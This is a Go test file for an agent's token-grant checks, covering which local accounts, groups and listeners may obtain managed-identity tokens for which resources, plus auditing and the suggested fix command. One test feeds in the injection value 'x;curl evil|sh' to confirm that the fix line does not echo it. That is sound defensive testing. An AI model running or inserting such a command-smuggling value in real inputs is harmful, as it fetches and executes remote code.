package token

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/synctest"

	"postern/agent/credential"
	"postern/platform"
)

// people are the accounts of a small machine.
type people struct {
	users  map[string]platform.Peer
	groups map[string][]platform.Peer
	asked  int
}

func (p *people) Account(user string) platform.Peer {
	p.asked++
	return p.users[user]
}

func (p *people) Member(peer platform.Peer, group string) bool {
	p.asked++
	for _, member := range p.groups[group] {
		if member == peer {
			return true
		}
	}
	return false
}

func newPeople() *people {
	return &people{
		users:  map[string]platform.Peer{"telemetry": "uid:1001", "backup": "uid:1002"},
		groups: map[string][]platform.Peer{"plant": {"uid:1002", "uid:1003"}},
	}
}

var (
	systemIdent = credential.Identity{Kind: credential.SystemAssigned, ClientID: systemID}
	userIdent   = credential.Identity{Kind: credential.UserAssigned, ClientID: userID}
)

func mustGrants(t testing.TB, lookup Accounts, grants ...Grant) *Grants {
	t.Helper()
	g, err := NewGrants(grants, lookup)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestWithoutGrantsEverybodyIsAllowed(t *testing.T) {
	t.Parallel()
	for name, g := range map[string]*Grants{"nil": nil, "empty": mustGrants(t, nil)} {
		if reason, ok := g.Allow(Caller{}, userIdent, vault); !ok || reason != "no grants configured" {
			t.Errorf("%s grants: Allow = %q, %v", name, reason, ok)
		}
	}
}

func TestOnlyWhatIsGrantedIsAllowed(t *testing.T) {
	t.Parallel()
	g := mustGrants(t, newPeople(),
		Grant{Who: "uid:1001", Identity: "system", Resources: []string{vault, "api://plant/*"}},
		Grant{Who: "user:backup", Identity: strings.ToUpper(userID), Resources: []string{"*"}},
		Grant{Who: "group:plant", Identity: "system", Resources: []string{graph}},
		Grant{Who: "listener:workload:web", Identity: userID, Resources: []string{vault}},
	)
	for _, c := range []struct {
		peer     platform.Peer
		listener string
		id       credential.Identity
		resource string
		reason   string
		ok       bool
	}{
		{"uid:1001", "arc", systemIdent, vault, "grant 1", true},
		{"uid:1001", "arc", systemIdent, vault + "/", "no grant of uid:1001 for this identity lists the resource", false},
		{"uid:1001", "arc", systemIdent, strings.ToUpper(vault), "no grant of uid:1001 for this identity lists the resource", false},
		{"uid:1001", "arc", systemIdent, "api://plant/valve", "grant 1", true},
		{"uid:1001", "arc", systemIdent, "api://plant/", "grant 1", true},
		{"uid:1001", "arc", systemIdent, "api://plant", "no grant of uid:1001 for this identity lists the resource", false},
		{"uid:1001", "arc", userIdent, vault, "no grant of uid:1001 names this identity", false},
		{"uid:1002", "arc", userIdent, "anything://at/all", "grant 2", true},
		{"uid:1002", "arc", systemIdent, graph, "grant 3", true},
		{"uid:1003", "arc", systemIdent, graph, "grant 3", true},
		{"uid:1003", "arc", systemIdent, vault, "no grant of uid:1003 for this identity lists the resource", false},
		{"uid:1004", "arc", systemIdent, graph, "no grant names uid:1004", false},
		{"uid:0", "arc", systemIdent, vault, "no grant names uid:0", false}, // root has no shortcut
		{"", "arc", systemIdent, vault, "the caller's account could not be found out", false},
		{"", "workload:web", userIdent, vault, "grant 4", true},
		{"workload:web", "workload:web", userIdent, vault, "grant 4", true},
		{"uid:1004", "workload:web2", userIdent, vault, "no grant names uid:1004", false},
	} {
		reason, ok := g.Allow(Caller{Peer: c.peer, Listener: c.listener}, c.id, c.resource)
		if ok != c.ok || reason != c.reason {
			t.Errorf("%q on %q, %s, %s: got %v %q, want %v %q", c.peer, c.listener, c.id.Kind, c.resource, ok, reason, c.ok, c.reason)
		}
	}
}

// A user name that does not resolve is Unknown, and so is a caller whose
// account could not be found out: they must not be taken for one another.
func TestUnknownPeerMatchesNoAccount(t *testing.T) {
	t.Parallel()
	lookup := newPeople()
	lookup.groups["odd"] = []platform.Peer{platform.Unknown}
	g := mustGrants(t, lookup,
		Grant{Who: "user:nobody-of-that-name", Identity: "system", Resources: []string{"*"}},
		Grant{Who: "group:odd", Identity: "system", Resources: []string{"*"}},
		Grant{Who: "uid:0", Identity: "system", Resources: []string{"*"}},
		Grant{Who: "workload:web", Identity: "system", Resources: []string{"*"}},
	)
	for _, listener := range []string{"", "127.0.0.1:40342", "workload:web"} {
		if reason, ok := g.Allow(Caller{Peer: platform.Unknown, Listener: listener}, systemIdent, vault); ok {
			t.Errorf("unknown peer on %q was allowed by %s", listener, reason)
		}
	}
}

func TestNoListenerMatchesNoListenerGrant(t *testing.T) {
	t.Parallel()
	g := &Grants{rules: []rule{{who: who{kind: whoListener}, system: true, prefixes: []string{""}}}, accounts: newAccounts(nil)}
	if _, ok := g.Allow(Caller{Peer: "uid:0"}, systemIdent, vault); ok {
		t.Error("a caller without a listener matched a grant without one")
	}
}

func TestGrantsAreRefusedWithTheirPlace(t *testing.T) {
	t.Parallel()
	good := Grant{Who: "uid:1", Identity: "system", Resources: []string{vault}}
	for _, c := range []struct {
		name  string
		grant Grant
		want  string
	}{
		{"who", Grant{Who: "everybody", Identity: "system", Resources: []string{vault}}, `who "everybody"`},
		{"no identity", Grant{Who: "uid:1", Resources: []string{vault}}, "the name is empty"},
		{"no resource", Grant{Who: "uid:1", Identity: "system"}, "want 1 to 256"},
		{"empty resource", Grant{Who: "uid:1", Identity: "system", Resources: []string{""}}, "1 to 2048"},
		{"space in resource", Grant{Who: "uid:1", Identity: "system", Resources: []string{"a b"}}, "1 to 2048"},
		{"star inside", Grant{Who: "uid:1", Identity: "system", Resources: []string{"https://*.azure.net"}}, "at the end only"},
		{"two stars", Grant{Who: "uid:1", Identity: "system", Resources: []string{"https://**"}}, "at the end only"},
		{"too many", Grant{Who: "uid:1", Identity: "system", Resources: make([]string, 257)}, "want 1 to 256"},
	} {
		_, err := NewGrants([]Grant{good, c.grant}, newPeople())
		if err == nil || !strings.HasPrefix(err.Error(), "grant 2: ") || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: got %v, want grant 2 and %q", c.name, err, c.want)
		}
	}
	if _, err := NewGrants([]Grant{{Who: "user:x", Identity: "system", Resources: []string{"*"}}}, nil); err == nil {
		t.Error("a user name was accepted although nobody can resolve it")
	}
}

func TestGrantsAreBounded(t *testing.T) {
	t.Parallel()
	many := make([]Grant, 1001)
	for i := range many {
		many[i] = Grant{Who: fmt.Sprintf("uid:%d", i), Identity: "system", Resources: []string{vault}}
	}
	if _, err := NewGrants(many[:1000], nil); err != nil {
		t.Errorf("1000 grants: %v", err)
	}
	if _, err := NewGrants(many, nil); err == nil {
		t.Error("1001 grants were accepted")
	}
}

// Names are looked up when they are asked for, remembered for half a minute and
// no longer: who is taken out of a group is out soon.
func TestMembershipIsBelievedForHalfAMinute(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		lookup := newPeople()
		g := mustGrants(t, lookup, Grant{Who: "group:plant", Identity: "system", Resources: []string{"*"}})
		allowed := func() bool {
			_, ok := g.Allow(Caller{Peer: "uid:1002"}, systemIdent, vault)
			return ok
		}
		for range 1000 {
			if !allowed() {
				t.Fatal("a member was refused")
			}
		}
		if lookup.asked != 1 {
			t.Errorf("1000 requests asked the system %d times, want once", lookup.asked)
		}
		lookup.groups["plant"] = nil
		after(accountsLife)
		if allowed() {
			t.Error("the membership was still believed after its life")
		}
	})
}

func TestAccountAnswersAreBounded(t *testing.T) {
	t.Parallel()
	a := newAccounts(newPeople())
	for i := range uint32(2 * maxAccounts) {
		a.member(platform.UIDPeer(i), "plant")
	}
	if n := len(a.answers); n > maxAccounts {
		t.Errorf("%d answers are kept, want at most %d", n, maxAccounts)
	}
}

func TestClientIDsCompareAsGUIDsOnlyIfTheyAre(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"7B1E0000-0000-4000-8000-00000000000A":       "7b1e0000-0000-4000-8000-00000000000a",
		"Gateway-7":                                  "Gateway-7",
		"7B1E0000-0000-4000-8000-00000000000Z":       "7B1E0000-0000-4000-8000-00000000000Z",
		"7B1E0000x0000-4000-8000-00000000000A":       "7B1E0000x0000-4000-8000-00000000000A",
		"7B1E0000-0000-4000-8000-00000000000AA":      "7B1E0000-0000-4000-8000-00000000000AA",
		"-------------------------------------"[:36]: "-------------------------------------"[:36],
	} {
		if got := canonicalID(in); got != want {
			t.Errorf("canonicalID(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestNothingIsHandedOutPastTheGrants(t *testing.T) {
	bubble(t, func(t *testing.T) {
		w := newWorld(t, func(o *Options) {
			o.Grants = mustGrants(t, newPeople(), Grant{Who: "uid:1001", Identity: "system", Resources: []string{vault}})
		})
		w.mustAsk(vault) // now it is in the cache
		for name, r := range map[string]Request{
			"another uid":      by(request(systemID, vault), "uid:1002"),
			"root":             by(request(systemID, vault), "uid:0"),
			"an unknown peer":  by(request(systemID, vault), platform.Unknown),
			"another resource": request(systemID, graph),
			"a forced refresh": func() Request { r := by(request(systemID, vault), "uid:1002"); r.Refresh = true; return r }(),
		} {
			got, err := w.Token(t.Context(), r)
			var refused *GrantError
			if !errors.Is(err, ErrNotGranted) || !errors.As(err, &refused) || !got.Value.Empty() {
				t.Errorf("%s: got %v, want ErrNotGranted", name, err)
				continue
			}
			if refused.Reason == "" || refused.Fix == "" || refused.Peer != r.Caller.Peer {
				t.Errorf("%s: the refusal does not say enough: %+v", name, refused)
			}
		}
		if n := w.issuer.count(); n != 1 {
			t.Errorf("refused requests reached the authority: %d calls", n)
		}
		denied := 0
		for _, e := range w.events.list() {
			if e.Name == TokenDenied && e.Reason != "" && e.Token == "" {
				denied++
			}
		}
		if denied != 5 {
			t.Errorf("%d denials were audited, want 5", denied)
		}
	})
}

func TestNewGrantsHoldFromTheNextRequestOn(t *testing.T) {
	bubble(t, func(t *testing.T) {
		w := newWorld(t)
		w.mustAsk(vault)
		w.SetGrants(mustGrants(t, nil, Grant{Who: "uid:7", Identity: "system", Resources: []string{"*"}}))
		if _, err := w.ask(vault); !errors.Is(err, ErrNotGranted) {
			t.Errorf("got %v, want ErrNotGranted", err)
		}
	})
}

// Somebody will paste the line, and the resource is the caller's own text.
func TestFixHoldsNothingForAShell(t *testing.T) {
	t.Parallel()
	r := request(systemID, "x;curl evil|sh")
	if got := grantCommand(&r, systemIdent); got != "sudo postern grant uid:1001 --identity system --resource RESOURCE" {
		t.Errorf("fix is %q", got)
	}
	r.Resource = vault
	if got := grantCommand(&r, userIdent); got != "sudo postern grant uid:1001 --identity "+userID+" --resource "+vault {
		t.Errorf("fix is %q", got)
	}
}

// The door of the IMDS flavour opens for an account that a grant names; a
// member of a group that one names has to be a member of the token group, too.
func TestNamesMeansTheAccountItself(t *testing.T) {
	t.Parallel()
	g := mustGrants(t, newPeople(),
		Grant{Who: "uid:1001", Identity: userID, Resources: []string{vault}},
		Grant{Who: "user:backup", Identity: "system", Resources: []string{vault}},
		Grant{Who: "user:nobody-of-this-name", Identity: "system", Resources: []string{vault}},
		Grant{Who: "group:plant", Identity: "system", Resources: []string{vault}},
		Grant{Who: "listener:arc", Identity: "system", Resources: []string{vault}},
	)
	for p, want := range map[platform.Peer]bool{"uid:1001": true, "uid:1002": true, "uid:1003": false, "uid:0": false, platform.Unknown: false} {
		if got := g.Names(p); got != want {
			t.Errorf("%q: %v, want %v", p, got, want)
		}
	}
	if (*Grants)(nil).Names("uid:1001") || mustGrants(t, nil).Names("uid:1001") {
		t.Error("no grant names nobody")
	}
}
